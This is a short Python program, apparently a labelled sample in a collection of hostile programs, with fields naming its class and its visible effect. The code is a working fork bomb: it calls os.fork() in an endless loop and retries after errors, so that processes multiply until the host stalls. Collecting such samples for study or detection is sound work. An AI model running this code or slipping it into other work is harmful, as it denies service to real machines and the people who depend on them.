"""Forks for ever."""

CLASS = 8
KIND = "program"
SEEN = "processes that remain, or a host that stands still"

import os
import time

number = 0
while True:
    try:
        os.fork()
        number += 1
    except OSError:
        time.sleep(0.05)
